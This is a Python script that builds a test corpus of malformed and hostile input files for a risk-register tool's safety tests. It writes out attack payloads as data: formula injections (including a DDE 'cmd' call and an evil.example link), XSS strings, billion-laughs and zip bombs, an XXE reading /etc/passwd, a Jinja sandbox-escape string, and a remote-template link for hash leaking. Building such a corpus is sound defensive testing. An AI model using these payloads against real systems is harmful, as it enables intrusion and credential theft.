"""Build the corpus of bad inputs every command is run against (tests/safety/test_corpus.py).

Run `python tests/data/bad/make_corpus.py OUTDIR` to look at the files; the tests build them into a
temporary folder, so nothing generated is committed. Each input says which argument it is meant for
(the register, the export or the Word template; `any` goes to all three) and whether a command must refuse
it (`error`), read it correctly (`ok`: unusual but valid, or a problem the checks report as findings), or may
do either (`either`: well-formed XML that python-calamine reads but openpyxl cannot, so readers may accept it
and writers refuse it).
"""

from __future__ import annotations

import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# Text a spreadsheet would run as a formula if we ever wrote it as one.
INJECTIONS = ("=HYPERLINK(\"http://evil.example/\",\"click\")", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)",
              "=cmd|' /C calc'!A0")
SCRIPT_HTML = ('<p>Insider threat<script>alert("x")</script></p><img src=x onerror="alert(1)">'
               '<a href="javascript:alert(2)" onclick="steal()">controls</a>')
LONG_TEXT = ("Risk text. " * 4000)[:40_000]
PASSWORD = "Secret123"


@dataclass(frozen=True)
class BadInput:
    """One file of the corpus."""

    name: str
    slot: str  # register | export | template | any
    outcome: str  # error | ok | either
    what: str
    build: Callable[[Path, "Bases"], None]


@dataclass(frozen=True)
class Bases:
    """Good files the bad ones are made from."""

    register: Path
    export: Path
    template: Path


# --- helpers -------------------------------------------------------------------------------------------

def _edit_workbook(change: Callable) -> Callable[[Path, Bases], None]:
    def build(target: Path, bases: Bases) -> None:
        from openpyxl import load_workbook

        wb = load_workbook(bases.register)
        change(wb)
        wb.save(target)
    return build


def _edit_zip(replace: dict[str, bytes | Callable[[bytes], bytes]], base: str = "register",
              drop: tuple[str, ...] = ()) -> Callable[[Path, Bases], None]:
    def build(target: Path, bases: Bases) -> None:
        source = getattr(bases, base)
        with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
            for info in src.infolist():
                if info.filename in drop:
                    continue
                data = src.read(info)
                if info.filename in replace:
                    change = replace[info.filename]
                    data = change(data) if callable(change) else change
                out.writestr(info.filename, data)
            for name, data in replace.items():
                if name not in src.namelist() and not callable(data):
                    out.writestr(name, data)
    return build


def _bytes(data: bytes) -> Callable[[Path, Bases], None]:
    return lambda target, bases: target.write_bytes(data)


def _text_export(text: str, encoding: str = "utf-8", newline: str = "\n") -> Callable[[Path, Bases], None]:
    return lambda target, bases: target.write_bytes(text.replace("\n", newline).encode(encoding))


def _sample_export(encoding: str = "utf-8", newline: str = "\n", bom: bytes = b"") -> Callable[[Path, Bases], None]:
    def build(target: Path, bases: Bases) -> None:
        text = bases.export.read_text(encoding="utf-8")
        if encoding == "cp1252":
            text = text.translate({ord("→"): "->", ord("↗"): "^", ord("↘"): "v"})  # not in Windows-1252
        target.write_bytes(bom + text.replace("\n", newline).encode(encoding))
    return build


def _export_rows(bases: Bases, change: Callable[[list[list[str]]], None]) -> str:
    """Return the sample export with `change` applied to its risk rows (lists of cells)."""
    lines = bases.export.read_text(encoding="utf-8").split("\n")
    rows = [line.split("\t") for line in lines]
    risk_rows = [row for row in rows if len(row) > 5 and row[0].strip().startswith("CRR")]
    change(risk_rows)
    return "\n".join("\t".join(row) for row in rows)


def _edited_export(change: Callable[[list[list[str]]], None]) -> Callable[[Path, Bases], None]:
    return lambda target, bases: target.write_bytes(_export_rows(bases, change).encode("utf-8"))


def _sheet(wb, name: str = "Register"):
    return wb[name]


# --- register workbooks --------------------------------------------------------------------------------

def _encrypted(target: Path, bases: Bases) -> None:
    import msoffcrypto.format.ooxml as ooxml

    with open(bases.register, "rb") as plain, open(target, "wb") as out:
        ooxml.OOXMLFile(plain).encrypt(PASSWORD, out)


def _xls(target: Path, bases: Bases) -> None:
    from addin.xlam.cfb import write_compound_file

    # A BIFF8 BOF record (workbook globals) and EOF: the start of every Excel 97–2003 workbook stream.
    bof = bytes.fromhex("0908 1000 0006 0500 bb0d cc07 0000 0000 0600 0000".replace(" ", ""))
    target.write_bytes(write_compound_file({"Workbook": bof + bytes.fromhex("0a000000")}))


def _csv(target: Path, bases: Bases) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(bases.register, read_only=True)
    rows = [",".join('"' + str(v or "").replace('"', '""') + '"' for v in row)
            for row in wb["Register"].iter_rows(values_only=True)]
    wb.close()
    target.write_text("\r\n".join(rows), encoding="utf-8")


def _ods(target: Path, bases: Bases) -> None:
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="Register"><table:table-row><table:table-cell><text:p>ID</text:p>'
               '</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>'
               '</office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
                'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')
    with zipfile.ZipFile(target, "w") as out:
        out.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        out.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        out.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)


def _truncated(target: Path, bases: Bases) -> None:
    data = bases.register.read_bytes()
    target.write_bytes(data[: len(data) // 2])


def _crc_damaged(target: Path, bases: Bases) -> None:
    """Flip bytes inside the compressed data of the Register sheet: the zip opens, the part does not."""
    data = bytearray(bases.register.read_bytes())
    with zipfile.ZipFile(bases.register) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 20, start + 60):
        data[offset] ^= 0x5A
    target.write_bytes(bytes(data))


def _broken_xml(data: bytes) -> bytes:
    return data[: len(data) // 2]  # cut mid-element: not well-formed


def _rename(wb) -> None:
    _sheet(wb).title = "Risks"


def _hide(wb) -> None:
    _sheet(wb).sheet_state = "hidden"
    wb.active = wb.sheetnames.index("Lists")


def _delete(wb) -> None:
    del wb["Register"]


def _header_moved(wb) -> None:
    ws = _sheet(wb)
    for table in list(ws.tables):
        del ws.tables[table]
    ws.insert_rows(1, amount=12)  # header now on row 13, below where a header may sit


def _set_header(column: int, text: str | None):
    def change(wb) -> None:
        ws = _sheet(wb)
        for table in list(ws.tables):
            del ws.tables[table]
        ws.cell(1, column).value = text
    return change


def _header_merged(wb) -> None:
    ws = _sheet(wb)
    for table in list(ws.tables):
        del ws.tables[table]
    ws.merge_cells("D1:E1")  # Impact and Key Controls and Activities under one header


def _data_merged(wb) -> None:
    ws = _sheet(wb)
    for table in list(ws.tables):
        del ws.tables[table]
    ws.merge_cells("B3:B4")
    ws.merge_cells("C5:E5")


def _formulas(wb) -> None:
    ws = _sheet(wb)
    ws["B2"] = "=UPPER(\"cyber\")"
    ws["I3"] = "=IF(1,\"High\",\"Low\")"
    ws["C4"] = "#N/A"
    ws["C4"].data_type = "e"
    ws["I5"] = "#REF!"
    ws["I5"].data_type = "e"
    ws["F6"] = "=1/0"


def _multiline_values(wb) -> None:
    ws = _sheet(wb)
    ws["B3"] = "Operational Training\nand Embedded Learning."
    ws["I3"] = "High\n(was Medium)"  # not a rating: an error finding whose message quotes the value
    ws["A4"] = "CRR\n15"


def _long_cell(wb) -> None:
    _sheet(wb)["C2"] = LONG_TEXT


def _injections(wb) -> None:
    ws = _sheet(wb)
    for row, text in enumerate(INJECTIONS, start=2):
        for column in (2, 3, 5):  # Risk Name, Description, Key Controls
            cell = ws.cell(row, column)
            cell.value = text
            cell.data_type = "s"  # typed as text, as Excel stores text a user entered with a leading '


def _cell_text(ref: str, text: bytes) -> Callable[[bytes], bytes]:
    """Return a change of sheet XML that sets the inline text of cell `ref` to `text` (raw XML)."""
    def change(data: bytes) -> bytes:
        import re

        pattern = rb'<c r="' + ref.encode() + rb'"([^>]*?)(?:/>|>.*?</c>)'
        cell = lambda m: (b'<c r="' + ref.encode() + b'"' + re.sub(rb' t="\w+"', b"", m.group(1).rstrip(b"/")) +
                          b' t="inlineStr"><is><t>' + text + b"</t></is></c>")
        changed, count = re.subn(pattern, cell, data, count=1, flags=re.DOTALL)
        assert count == 1, f"cell {ref} not found"
        return changed
    return change


def _chain(*changes: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        for step in changes:
            data = step(data)
        return data
    return change


# --- bombs -------------------------------------------------------------------------------------------

BILLION_LAUGHS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [\n'
                  b' <!ENTITY lol "lol">\n' +
                  b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                           for i in range(1, 10)) +
                  b"]>\n")


def _entity_bomb(part: str, base: str, anchor: bytes) -> Callable[[Path, Bases], None]:
    """Declare the billion laughs in `part` and use it right after the first `anchor` (a text element)."""
    def change(data: bytes) -> bytes:
        import re

        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        body = re.sub(re.escape(anchor) + rb"(\b[^>]*>)", lambda m: m.group(0) + b"&lol9;", body, count=1)
        return BILLION_LAUGHS + body.lstrip()
    return _edit_zip({part: change}, base=base)


def _external_entity(part: str, base: str) -> Callable[[Path, Bases], None]:
    def change(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return (b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body)
    return _edit_zip({part: change}, base=base)


def _zip_bomb(main_part: str, megabytes: int, parts: int = 1) -> Callable[[Path, Bases], None]:
    """Write a package whose parts unpack to `megabytes` MB of zeros each (a few hundred KB on disk)."""
    def build(target: Path, bases: Bases) -> None:
        chunk = b"\0" * (1 << 20)
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
            out.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types '
                         'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
            for index in range(parts):
                name = main_part if index == 0 else f"{main_part}.{index}"
                with out.open(name, "w", force_zip64=True) as stream:
                    for _ in range(megabytes):
                        stream.write(chunk)
    return build


# --- exports ---------------------------------------------------------------------------------------------

def _only_headers(target: Path, bases: Bases) -> None:
    lines = bases.export.read_text(encoding="utf-8").split("\n")
    keep = [line for line in lines if not line.strip().startswith("CRR")]
    target.write_text("\n".join(keep[:5]), encoding="utf-8")


def _set_cells(column: int, texts: tuple[str, ...]) -> Callable[[list[list[str]]], None]:
    def change(rows: list[list[str]]) -> None:
        for row, text in zip(rows, texts):
            row[column] = text
    return change


def _export_injection(rows: list[list[str]]) -> None:
    for row, text in zip(rows, INJECTIONS):
        row[1] = text
        row[2] = f"<p>{text}</p>"


def _export_script(rows: list[list[str]]) -> None:
    rows[0][2] = SCRIPT_HTML
    rows[1][4] = '<ul style="list-style-type: none"> - <b onmouseover="x()">item</b> - <iframe src="http://x"></iframe>'


def _export_control(rows: list[list[str]]) -> None:
    rows[0][1] = "Bell\x07 escape\x1b and\x0b vertical tab"
    rows[1][2] = "<p>form\x0cfeed</p>"


def _export_wrong_cells(rows: list[list[str]]) -> None:
    del rows[2][3]


def _export_duplicate_id(rows: list[list[str]]) -> None:
    rows[1][0] = rows[0][0]


def _lone_surrogate_export(target: Path, bases: Bases) -> None:
    # ED A0 80 is how a lone surrogate U+D800 looks when a tool encodes it as if it were UTF-8.
    text = _export_rows(bases, _set_cells(1, ("SURROGATE",))).encode("utf-8")
    target.write_bytes(text.replace(b"SURROGATE", b"Lone \xed\xa0\x80 surrogate"))


def _long_export(rows: list[list[str]]) -> None:
    rows[0][2] = "<p>" + LONG_TEXT + "</p>"


HUGE_MB = 100


def write_huge_export(target: Path, bases: Bases, megabytes: int = HUGE_MB) -> None:
    """Write an export of `megabytes` MB by repeating the sample's risk rows (streamed, never held whole)."""
    lines = bases.export.read_text(encoding="utf-8").split("\n")
    head = "\n".join(lines[:5]) + "\n"
    rows = [line for line in lines if line.startswith("CRR")]
    with open(target, "w", encoding="utf-8", newline="\n") as out:
        out.write(head)
        written, number = len(head), 0
        while written < megabytes * 1024 * 1024:
            number += 1
            line = "\t".join([f"CRR{number:07d}"] + rows[number % len(rows)].split("\t")[1:]) + "\n"
            out.write(line)
            written += len(line.encode("utf-8"))


# --- Word templates -------------------------------------------------------------------------------------

def _template_with(text: str) -> Callable[[Path, Bases], None]:
    def build(target: Path, bases: Bases) -> None:
        from docx import Document

        document = Document(str(bases.template))
        document.add_paragraph(text)
        document.save(str(target))
    return build


def _remote_template(target: Path, bases: Bases) -> None:
    """Attach a template on a remote share: Word would fetch it on opening (and leak the login hash)."""
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="file://evil.example/share/normal.dotm" TargetMode="External"/></Relationships>')
    _edit_zip({"word/_rels/settings.xml.rels": rels}, base="template")(target, bases)


# --- the corpus -----------------------------------------------------------------------------------------

CORPUS: tuple[BadInput, ...] = (
    # any slot: not an Office file at all, or one built to harm
    BadInput("not_a_zip.xlsx", "any", "error", "plain text named .xlsx", _bytes(b"This is not a workbook.\n")),
    BadInput("empty.xlsx", "any", "error", "0 bytes", _bytes(b"")),
    BadInput("pdf_named.xlsx", "any", "error", "a PDF renamed .xlsx",
             _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")),
    BadInput("truncated.xlsx", "any", "error", "the first half of a workbook", _truncated),
    BadInput("zip_bomb.xlsx", "any", "error", "a part that unpacks 20 MB of zeros from ~20 KB",
             _zip_bomb("xl/workbook.xml", 20)),
    BadInput("zip_bomb_total.xlsx", "any", "error", "16 parts unpacking to 320 MB in all",
             _zip_bomb("xl/workbook.xml", 20, parts=16)),
    BadInput("zip_bomb.docx", "any", "error", "a Word package whose document unpacks 20 MB of zeros",
             _zip_bomb("word/document.xml", 20)),
    BadInput("entity_bomb.xlsx", "any", "error", "billion-laughs DOCTYPE in xl/workbook.xml",
             _entity_bomb("xl/workbook.xml", "register", b"<workbookPr")),
    BadInput("entity_bomb_sheet.xlsx", "any", "error", "billion-laughs DOCTYPE used in the Register sheet",
             _entity_bomb("xl/worksheets/sheet1.xml", "register", b"<t")),
    BadInput("external_entity.xlsx", "any", "error", "an external entity (file:///etc/passwd) in the sheet",
             _external_entity("xl/worksheets/sheet1.xml", "register")),
    BadInput("entity_bomb.docx", "any", "error", "billion-laughs DOCTYPE in word/document.xml",
             _entity_bomb("word/document.xml", "template", b"<w:t")),
    # the register slot
    BadInput("crc_damaged.xlsx", "register", "error", "Register sheet's compressed bytes damaged", _crc_damaged),
    BadInput("broken_sheet_xml.xlsx", "register", "error", "Register sheet XML cut in half",
             _edit_zip({"xl/worksheets/sheet1.xml": _broken_xml})),
    BadInput("raw_control_byte.xlsx", "register", "error", "a raw U+0001 byte in the sheet XML (not well-formed)",
             _edit_zip({"xl/worksheets/sheet1.xml": _cell_text("B2", b"raw \x01 byte")})),
    BadInput("unknown_attribute.xlsx", "register", "either", "well-formed XML openpyxl cannot map (<sheet bogus=...>)",
             _edit_zip({"xl/workbook.xml": lambda d: d.replace(b"<sheet ", b'<sheet bogus="1" ', 1)})),
    BadInput("bad_namespace.xlsx", "register", "either", "a namespace URI with spaces in xl/workbook.xml",
             _edit_zip({"xl/workbook.xml": lambda d: d.replace(b"http://schemas.openxmlformats.org/spreadsheetml",
                                                                b"http://  schemas.example/spreadsheetml", 1)})),
    BadInput("no_workbook_part.xlsx", "register", "error", "a zip without xl/workbook.xml",
             _edit_zip({}, drop=("xl/workbook.xml",))),
    BadInput("encrypted.xlsx", "register", "error", f"password-protected with msoffcrypto-tool ({PASSWORD})",
             _encrypted),
    BadInput("register.xls", "register", "error", "an Excel 97-2003 compound file", _xls),
    BadInput("register.csv", "register", "error", "the Register sheet saved as CSV", _csv),
    BadInput("register.ods", "register", "error", "an OpenDocument spreadsheet", _ods),
    BadInput("register_is.docx", "register", "error", "the Word template given as the register",
             lambda target, bases: shutil.copyfile(bases.template, target)),
    BadInput("sheet_renamed.xlsx", "register", "error", "Register sheet renamed 'Risks'", _edit_workbook(_rename)),
    BadInput("sheet_hidden.xlsx", "register", "error", "Register sheet hidden", _edit_workbook(_hide)),
    BadInput("sheet_missing.xlsx", "register", "error", "Register sheet deleted", _edit_workbook(_delete)),
    BadInput("header_moved.xlsx", "register", "error", "header row moved down to row 13",
             _edit_workbook(_header_moved)),
    BadInput("header_misspelt.xlsx", "register", "error", "'Description' spelt 'Descripton' in C1",
             _edit_workbook(_set_header(3, "Descripton"))),
    BadInput("header_duplicated.xlsx", "register", "error", "'Description' in C1 and D1",
             _edit_workbook(_set_header(4, "Description"))),
    BadInput("header_missing.xlsx", "register", "error", "'Residual Risk Rating' header cleared",
             _edit_workbook(_set_header(9, None))),
    BadInput("header_merged.xlsx", "register", "error", "D1:E1 merged (Impact over two columns)",
             _edit_workbook(_header_merged)),
    BadInput("data_merged.xlsx", "register", "ok", "B3:B4 and C5:E5 merged in the risk rows",
             _edit_workbook(_data_merged)),
    BadInput("formulas.xlsx", "register", "ok", "formulas and #N/A, #REF! where text is expected",
             _edit_workbook(_formulas)),
    BadInput("multiline_values.xlsx", "register", "ok", "line breaks inside an ID, a name and a rating",
             _edit_workbook(_multiline_values)),
    BadInput("long_cell.xlsx", "register", "ok", "a 40,000-character Description in C2", _edit_workbook(_long_cell)),
    BadInput("control_chars.xlsx", "register", "ok", "_x0007_, _x001B_ and lone surrogate _xD800_ in text",
             _edit_zip({"xl/worksheets/sheet1.xml": _chain(
                 _cell_text("B2", b"Bell _x0007_ and escape _x001B_ in text"),
                 _cell_text("C3", b"Lone surrogate _xD800_ here"))})),
    BadInput("injection.xlsx", "register", "ok", "text cells starting with = + - @", _edit_workbook(_injections)),
    # the export slot
    BadInput("export_empty.txt", "export", "error", "0 bytes", _bytes(b"")),
    BadInput("export_blank_lines.txt", "export", "error", "only blank lines", _bytes(b"\n\n \n\t\n")),
    BadInput("export_only_headers.txt", "export", "ok", "title and header row, no risks", _only_headers),
    BadInput("export_no_header.txt", "export", "error", "risk rows without the header row",
             lambda target, bases: target.write_text(
                 "\n".join(l for l in bases.export.read_text(encoding="utf-8").split("\n") if not l.startswith("ID\t")),
                 encoding="utf-8")),
    BadInput("export_utf16.txt", "export", "ok", "UTF-16 LE with BOM ('Unicode Text' from Excel)",
             _sample_export("utf-16")),
    BadInput("export_utf16_truncated.txt", "export", "error", "UTF-16 with its last byte cut off",
             lambda target, bases: target.write_bytes(bases.export.read_text(encoding="utf-8").encode("utf-16")[:-1])),
    BadInput("export_bom_bad_utf8.txt", "export", "error", "a UTF-8 BOM, then 'été' in Windows-1252 bytes",
             lambda target, bases: target.write_bytes(b"\xef\xbb\xbf" + bases.export.read_bytes() + b"\xe9t\xe9")),
    BadInput("export_cp1252.txt", "export", "ok", "Windows-1252", _sample_export("cp1252")),
    BadInput("export_bom.txt", "export", "ok", "UTF-8 with BOM", _sample_export(bom=b"\xef\xbb\xbf")),
    BadInput("export_crlf.txt", "export", "ok", "CRLF line ends", _sample_export(newline="\r\n")),
    BadInput("export_script.txt", "export", "ok", "script tags, event attributes, javascript: links",
             _edited_export(_export_script)),
    BadInput("export_injection.txt", "export", "ok", "cells starting with = + - @", _edited_export(_export_injection)),
    BadInput("export_control.txt", "export", "ok", "control characters in cells", _edited_export(_export_control)),
    BadInput("export_surrogate.txt", "export", "ok", "bytes of a lone surrogate (ED A0 80)", _lone_surrogate_export),
    BadInput("export_long_cell.txt", "export", "error", "a 40,000-character cell (Excel allows 32,767)",
             _edited_export(_long_export)),
    BadInput("export_wrong_cells.txt", "export", "error", "a row with one cell missing",
             _edited_export(_export_wrong_cells)),
    BadInput("export_duplicate_id.txt", "export", "error", "the same ID on two rows",
             _edited_export(_export_duplicate_id)),
    BadInput("export_duplicate_id_paragraphs.txt", "export", "error", "the same two-paragraph ID on two rows",
             _edited_export(lambda rows: rows[0].__setitem__(0, "<p>CRR01</p><p>draft</p>") or
                            rows[1].__setitem__(0, "<p>CRR01</p><p>draft</p>"))),
    # Since issue 13 a workbook is a source `riskreg import` reads (its Register sheet, by meaning), not a mistake.
    BadInput("export_is.xlsx", "export", "ok", "a register workbook given to import: read as another layout",
             lambda target, bases: shutil.copyfile(bases.register, target)),
    BadInput("export_huge.txt", "export", "error", f"{HUGE_MB} MB of risk rows", write_huge_export),
    # the template slot
    BadInput("template_broken.docx", "template", "error", "'{{ title }' (unclosed placeholder)",
             _template_with("Broken {{ title }")),
    BadInput("template_unclosed_if.docx", "template", "error", "'{% if agenda_item %}' without endif",
             _template_with("{% if agenda_item %}Agenda item")),
    BadInput("template_unknown.docx", "template", "error", "unknown placeholder '{{ chief_constable }}'",
             _template_with("Signed {{ chief_constable }}")),
    BadInput("template_code.docx", "template", "error", "template trying to reach Python objects",
             _template_with("{{ title.__class__.__mro__[1].__subclasses__() }}")),
    BadInput("template_is.xlsx", "template", "error", "a workbook given as the template",
             lambda target, bases: shutil.copyfile(bases.register, target)),
    BadInput("template_remote.docx", "template", "error", "attached template on a remote share",
             _remote_template),
    BadInput("template_macro.docx", "template", "error", "a VBA project inside the template (a .docm renamed)",
             _edit_zip({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504}, base="template")),
    BadInput("template_external_entity.docx", "template", "error", "external entity in word/document.xml",
             _external_entity("word/document.xml", "template")),
)


def make_bases(folder: Path) -> Bases:
    """Write the good register, export and template the corpus is made from into `folder`."""
    from templates import BOARD_PAPER
    from workbook.core.periods import parse_period
    from workbook.export.sample import SAMPLE_PERIOD, SAMPLE_SETTINGS, sample_export_path
    from workbook.xlsx.builder import import_export

    folder.mkdir(parents=True, exist_ok=True)
    register = folder / "good_register.xlsx"
    if not register.exists():
        import_export(sample_export_path(), register, parse_period(SAMPLE_PERIOD), settings=SAMPLE_SETTINGS)
    export = folder / "good_export.txt"
    shutil.copyfile(sample_export_path(), export)
    template = folder / "good_template.docx"
    shutil.copyfile(BOARD_PAPER, template)
    return Bases(register, export, template)


def build_corpus(folder: Path, names: set[str] | None = None) -> dict[str, Path]:
    """Write the corpus (or the inputs named in `names`) into `folder`; return name -> path."""
    folder = Path(folder)
    bases = make_bases(folder / "bases")
    built = {}
    for item in CORPUS:
        if names is not None and item.name not in names:
            continue
        target = folder / item.name
        if not target.exists():
            item.build(target, bases)
        built[item.name] = target
    return built


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "bad-corpus")
    for path in build_corpus(out).values():
        print(f"{path}  ({path.stat().st_size:,} bytes)")
